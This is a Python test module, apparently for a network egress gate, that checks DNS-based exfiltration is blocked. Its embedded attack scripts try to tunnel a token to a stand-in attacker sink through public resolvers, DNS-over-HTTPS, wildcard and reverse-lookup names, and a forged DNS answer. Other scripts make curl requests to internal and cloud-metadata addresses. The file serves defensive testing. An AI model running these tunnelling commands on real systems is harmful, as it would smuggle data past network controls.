"""Family D: names and resolvers as ways out. Ids as in the attack catalogue.

Every name resolves inside, to a synthetic address: that is no leak. What the name server outside is asked decides.
"""

# ruff: noqa: N802

from __future__ import annotations

import json

import pytest

from tests.adversarial.family import ATTACKER, POLICY, Ran, check, inside, outside
from tests.conftest import TIERS, Tier
from tests.world import World

SINK4, SINK6 = ATTACKER
RESOLVERS = (
    *("1.1.1.1", "8.8.8.8", "9.9.9.9", SINK4, SINK6, "10.9.9.9", "203.0.113.53", "127.0.0.53"),
)
MIXED = ("mixed", "zero", "v4mapped", "nat64", "sixtofour")
POINTING_INSIDE = {
    "internal.test": "10.9.9.9",
    "loop.test": "127.0.0.1",
    "meta.test": "169.254.169.254",
}
LIMITED = POLICY.replace("allow:", "limits: {names_per_wildcard: 8}\nallow:")
RULES = LIMITED + "".join(f"  - host: {name}\n" for name in POINTING_INSIDE)

SCRIPTS = {
    "D01": f"""
for server in {RESOLVERS}:
    say(server, ask(server, f"{{TOK}}.{{ZONE}}"))
""",
    "D02": f"""
for server in {RESOLVERS}:
    say(server, ask(server, f"{{TOK}}.{{ZONE}}", over_tcp=True))
""",
    "D04": """
for url in ("https://dns.google/resolve?name=", "https://1.1.1.1/dns-query?name=",
            "https://cloudflare-dns.com/dns-query?name=", "http://dns.google/resolve?name="):
    head = ("-H", "accept: application/dns-json")
    say(curl(*head, f"{url}{TOK}.{ZONE}"), curl("-x", PX, *head, f"{url}{TOK}.{ZONE}"))
""",
    "D05": """
name = f"{TOK}.{ZONE}"
say(attempt(lambda: [entry[4][0] for entry in socket.getaddrinfo(name, 80)]))
say(shell(f"getent hosts {name}")["code"])
server = open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]
for kind in (1, 28, 16, 65, 5, 255):
    say(kind, ask(server, name, kind))
""",
    "D07": """
for number in range(40):
    for via in ((), ("-x", PX)):
        say(curl(*via, f"http://{TOK}{number}.wild.test/")["code"])
""",
    "D09": """
for path in ("/run/dbus/system_bus_socket", "/run/nscd/canary", "/run/avahi-daemon/socket",
             "/run/systemd/resolve/io.systemd.Resolve"):
    def resolve():
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            sock.sendall(f"RESOLVE-HOSTNAME {TOK}.{ZONE}".encode())
    say(path, attempt(resolve))
""",
    "D10": """
data = question(OK, flags=0x8180) + bytes([0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4]) + socket.inet_aton(SINK4)
for server in (SINK4, "1.1.1.1"):
    say(attempt(udp, server, 53, data + TOK.encode()))
say(curl("--resolve", f"{OK}:443:{SINK4}", f"https://{OK}/{TOK}"))
say(curl("--resolve", f"{OK}:80:{SINK4}", f"http://{OK}/{TOK}"))
""",
    "D12": """
say(curl(f"https://{SINK4}/{TOK}"))
say(curl(f"http://{SINK4}/{TOK}"))
say(curl(f"https://{SINK4}/{TOK}"))
""",
    "D13": """
nibbles = ".".join(TOK.encode().hex()[:32])
for name in (f"{TOK}.8.b.d.0.1.0.0.2.ip6.arpa", nibbles + ".ip6.arpa", f"{TOK}.113.0.203.in-addr.arpa"):
    for server in ("1.1.1.1", "8.8.8.8"):
        say(name, ask(server, name, 12))
""",
    "D15": """
say(curl(f"https://cname-to-internal.ok.test/{TOK}"))
say(curl(f"http://cname-to-internal.ok.test/{TOK}"))
say(curl(f"https://cname-to-foreign.ok.test/"))
say(curl(f"https://cname-target.zone.test/{TOK}"))
say(curl(f"http://cname-target.zone.test/{TOK}"))
""",
    "D16": f"""
for name in {MIXED}:
    say(name, curl(f"http://{{name}}.ok.test/{{TOK}}"), curl("-x", PX, f"http://{{name}}.ok.test/{{TOK}}"))
for name in {tuple(POINTING_INSIDE)}:
    say(name, curl(f"http://{{name}}/{{TOK}}"), curl("-x", PX, f"http://{{name}}/{{TOK}}"))
""",
}


@pytest.fixture(scope="module")
def leaks(world: World) -> Ran:
    return outside(world, SCRIPTS)


@pytest.fixture(scope="module", params=TIERS)
def ran(world: World, request: pytest.FixtureRequest) -> Ran:
    return inside(world, request.param, SCRIPTS, RULES)


def test_no_question_of_the_family_left_the_boundary(ran: Ran, leaks: Ran) -> None:
    assert leaks.asked("zone.test")
    assert leaks.asked("arpa")
    # What the gate looks up itself are names that a rule allows, at the machine's own name server.
    allowed = (".ok.test", ".wild.test", "allowed.test", *POINTING_INSIDE)
    foreign = [name for name in ran.asked("") if not name.endswith(allowed)]
    assert foreign == []
    assert {packet["target"] for packet in ran.packets if packet.get("port") == 53} <= {
        "203.0.113.53"
    }
    assert ran.to(*ATTACKER, "1.1.1.1", "8.8.8.8", "9.9.9.9") == []


def test_D01_udp_to_any_resolver(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D01")
    assert [answer for _, answer in case.said] == [[0, 1]] * len(RESOLVERS)
    name = f"{case.token}.zone.test"
    captured = ran.questions(name=name, type="A", via="udp")
    assert captured == len(RESOLVERS) - 1
    assert ran.questions(name=name, type="A", via="udp-loopback") == 1


def test_D02_dns_over_tcp(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D02")
    assert [answer for _, answer in case.said] == [[0, 1]] * len(RESOLVERS)
    assert ran.questions(name=f"{case.token}.zone.test", via="tcp") == len(RESOLVERS)


def test_D04_dns_over_https(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D04")
    assert len(leaks["D04"].arrived) == 8
    assert not any(said["out"].startswith("sink") for pair in case.said for said in pair)
    for name in ("dns.google", "cloudflare-dns.com"):
        assert ran.denied(synthetic=name, port=443)
        assert ran.denied(target=name, target_port=443)
    assert ran.denied(address="1.1.1.1", port=443)
    assert ran.denied(target="1.1.1.1", target_port=443)


def test_D04_policy_check_warns_of_a_public_resolver(tier: Tier) -> None:
    rules = tier.work / "doh.yaml"
    rules.write_text("version: 1\nallow:\n  - host: dns.google\n")
    done = tier.sluicegate("policy", "check", str(rules))
    assert done.code == 1
    assert "dns.google" in done.out + done.err
    rules.write_text("version: 1\nallow:\n  - host: allowed.test\n")
    assert tier.sluicegate("policy", "check", str(rules)).code == 0


def test_D05_tunnel_through_the_ordinary_resolver(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D05")
    name = f"{case.token}.zone.test"
    for kind in ("A", "AAAA", "TXT", "HTTPS", "CNAME", "ANY"):
        assert ran.questions(name=name, type=kind) >= 1, kind
    assert dict(case.said[2:])[16] == [0, 0]


def test_D07_a_wildcard_rule_as_a_tunnel(ran: Ran, leaks: Ran) -> None:
    assert len(set(leaks.asked("wild.test"))) == 40
    assert len(set(ran.asked("wild.test"))) == 8
    over = [flow for flow in ran.denied() if flow["rule"] == "limits.names_per_wildcard"]
    assert len({flow["host"] for flow in over}) == 32
    assert len(over) == 64  # of 40 names, each asked for directly and through the proxy
    assert not {flow["host"] for flow in over} & set(ran.asked("wild.test"))


def test_D09_resolvers_by_their_sockets(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D09")
    assert len(leaks["D09"].arrived) == 4
    assert all(isinstance(end, str) for _, end in case.said)


def test_D10_a_forged_answer(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D10", own=True)
    assert leaks.to(SINK4, port=443)
    assert ran.questions(name="(malformed)", reason="answer") == 2
    # The gate asked for the name itself: the client's address counts for nothing.
    assert all("203.0.113.66" not in json.dumps(entry) for entry in case.arrived)


def test_D12_reverse_names_count_for_nothing(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "D12")
    assert len(ran.denied(address=SINK4, port=443)) >= 2
    assert ran.denied(address=SINK4, port=80)
    assert not ran.asked("in-addr.arpa")


def test_D13_tunnel_in_reverse_questions(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D13")
    assert not ran.asked("arpa")
    assert [answer for _, answer in case.said] == [[3, 0]] * 6
    for name in {name for name, _ in case.said}:
        assert ran.questions(name=name, type="PTR", reason="reverse") == 2, name


def test_D15_cname_to_an_internal_and_to_a_foreign_name(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D15")
    assert len(leaks["D15"].arrived) == 4
    internal = ran.denied(synthetic="cname-to-internal.ok.test")
    assert len(internal) == 2
    assert all("10.9.9.9" in flow["reason"] for flow in internal)
    assert case.said[2]["out"].startswith("sink GET")
    assert len(ran.denied(synthetic="cname-target.zone.test")) == 2


def test_D16_answers_with_internal_addresses(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "D16")
    assert {packet["target"] for packet in leaks["D16"].packets} >= {
        *("10.9.9.9", "127.0.0.1", "169.254.169.254", "64:ff9b::a09:909", "2002:a09:909::1"),
    }
    assert not ran.to("10.9.9.9", "127.0.0.1", "::1", "169.254.169.254", "64:ff9b::a09:909")
    for _, direct, proxied in case.said:
        for said in (direct, proxied):
            assert said["out"].rpartition("\n")[2].startswith("403 ")
    addresses = ("10.9.9.9", "0.0.0.0", "::ffff:a09:909", "64:ff9b::a09:909", "2002:a09:909::1")
    named = {f"{name}.ok.test": end for name, end in zip(MIXED, addresses, strict=True)}
    for name, address in (named | POINTING_INSIDE).items():
        for flow in (*ran.denied(synthetic=name), *ran.denied(target=name)):
            assert address in flow["reason"], flow
        assert len(ran.denied(synthetic=name) + ran.denied(target=name)) == 2, name
